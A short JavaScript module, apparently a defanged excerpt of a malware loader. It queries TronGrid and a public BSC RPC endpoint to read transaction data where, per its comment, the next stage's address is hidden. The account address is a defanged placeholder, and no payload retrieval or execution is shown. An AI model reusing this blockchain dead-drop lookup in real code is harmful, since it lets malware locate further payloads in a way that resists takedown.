// The next stage's address is kept in a transaction's data.
const TRON = 'https://api.trongrid.io/v1/accounts/TXexampleDefangedAddress000000000/transactions?only_confirmed=true&limit=1';
async function bsc(hash) {
  const r = await fetch('https://bsc-dataseed.binance.org/', { method: 'POST', body: JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'eth_getTransactionByHash', params: [hash] }) });
  return (await r.json()).result.input;
}
module.exports = { TRON, bsc };
